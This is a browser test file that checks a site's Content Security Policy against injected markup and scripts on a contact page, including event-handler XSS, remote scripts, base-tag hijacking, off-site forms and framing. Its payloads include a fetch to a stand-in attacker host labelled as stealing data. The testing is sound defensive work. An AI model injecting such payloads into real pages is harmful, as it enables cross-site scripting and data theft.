import {createServer} from 'node:http';
import {freePort} from '../support/freePort';
import {policyViolations, watchPolicy} from './policyViolations';
import {expect, test} from './support';

/** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
test.use({reducedMotion: 'reduce'});

declare global {
  function addElement<Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    properties: Partial<HTMLElementTagNameMap[Tag]>,
  ): HTMLElementTagNameMap[Tag];
  interface Window {
    addElement: typeof addElement;
  }
}

test.describe('whatever gets into a page from outside does nothing', () => {
  /** Markup that is put into the page, or what a script does there; and what the policy forbids of it. */
  const attacks: [name: string, attack: string | (() => void), directive: string][] = [
    ['an event handler', '<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
    ['a style', '<p style="position: fixed; inset: 0">', 'style-src-attr'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
    ['an inline script', () => addElement('script', {textContent: 'document.title = "taken over"'}), 'script-src-elem'],
    ['another server’s script', () => addElement('script', {src: 'https://evil.example/x.js'}), 'script-src-elem'],
    ['a base for every link', () => addElement('base', {href: 'https://evil.example/'}), 'base-uri'],
    [
      'a form that posts elsewhere',
      () => addElement('form', {action: 'https://evil.example/', method: 'post'}).submit(),
      'form-action',
    ],
    [
      'a request to another server',
      () => {
        fetch('https://evil.example/?stolen').catch(() => {
          // The policy's doing: it is what the test waits for.
        });
      },
      'connect-src',
    ],
  ];

  test('neither scripts and styles, nor frames, forms and requests', async ({page, problems}) => {
    await watchPolicy(page);
    await page.addInitScript(() => {
      window.addElement = (tag, properties) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
      };
    });
    const reached: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto('/contact');
    for (const [name, attack, directive] of attacks) {
      const before = (await policyViolations(page)).length;
      await (typeof attack === 'string'
        ? page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), attack)
        : page.evaluate(attack));
      const blocked = async () => (await policyViolations(page)).slice(before).map((violation) => violation.directive);
      await expect.poll(blocked, name).toContain(directive);
    }
    expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
    expect(page.url()).toMatch(/\/contact$/);
    expect(reached).toEqual([]);
    // The browser names what it blocked in its console.
    expect(problems.splice(0)).not.toEqual([]);
  });

  test('another site that shows this one in a frame gets nothing of it', async ({page, baseURL, problems}) => {
    const other = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe src="${baseURL}/contact"></iframe>`);
    });
    const port = await freePort();
    await new Promise<void>((resolve) => other.listen(port, resolve));
    try {
      await page.goto(`http://localhost:${port}/`);
      await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    } finally {
      other.close();
      problems.splice(0);
    }
  });
});
